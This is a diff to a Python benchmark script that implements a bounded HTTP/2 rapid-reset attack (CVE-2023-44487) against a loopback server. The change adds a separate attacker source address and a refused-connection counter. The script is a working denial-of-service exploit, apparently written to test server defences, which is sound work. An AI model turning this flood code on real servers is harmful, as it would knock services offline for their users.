@@ -2,10 +2,13 @@
 """bench/h2flood.py — a bounded HTTP/2 rapid-reset attacker (CVE-2023-44487)
 for bench/h2.sh: CONNS TLS connections (ALPN h2) to 127.0.0.1:PORT, each
 sending HEADERS for GET PATH then RST_STREAM(CANCEL) at once, in batches,
-reconnecting when the server closes; stops after SECONDS. Loopback only.
-Prints "streams=N connections=N" (streams opened, connections made).
+reconnecting when the server closes; stops after SECONDS. Loopback only;
+the attacker's connections come from SRC (127.0.0.2: not the good client's
+address, as a real attacker's would not be). Prints "streams=N connections=N
+refused=N" (streams opened, connections made, connections the server refused
+or dropped before the HTTP/2 preface).
 
-Usage: h2flood.py PORT SECONDS [CONNS] [PATH]"""
+Usage: h2flood.py PORT SECONDS [CONNS] [PATH] [SRC]"""
 import select
 import socket
 import ssl
@@ -15,6 +18,7 @@ import time
 PORT, SECONDS = int(sys.argv[1]), float(sys.argv[2])
 CONNS = int(sys.argv[3]) if len(sys.argv) > 3 else 4
 PATH = (sys.argv[4] if len(sys.argv) > 4 else "/100b.html").encode()
+SRC = sys.argv[5] if len(sys.argv) > 5 else "127.0.0.2"
 BATCH = 50
 
 
@@ -34,7 +38,7 @@ CTX.set_alpn_protocols(["h2"])
 
 class Conn:
     def __init__(self):
-        raw = socket.create_connection(("127.0.0.1", PORT), timeout=5)
+        raw = socket.create_connection(("127.0.0.1", PORT), timeout=1, source_address=(SRC, 0))
         self.s = CTX.wrap_socket(raw, server_hostname="localhost")
         self.s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
         self.s.setblocking(False)
@@ -54,13 +58,14 @@ class Conn:
 
 def main():
     end = time.time() + SECONDS
-    conns, streams, made = [], 0, 0
+    conns, streams, made, refused = [], 0, 0, 0
     while time.time() < end:
         while len(conns) < CONNS:
             try:
                 conns.append(Conn())
                 made += 1
             except OSError:
+                refused += 1
                 time.sleep(0.01)
         for c in list(conns):
             try:
@@ -77,7 +82,7 @@ def main():
                 conns.remove(c)
     for c in conns:
         c.s.close()
-    print("streams=%d connections=%d" % (streams, made))
+    print("streams=%d connections=%d refused=%d" % (streams, made, refused))
 
 
 main()
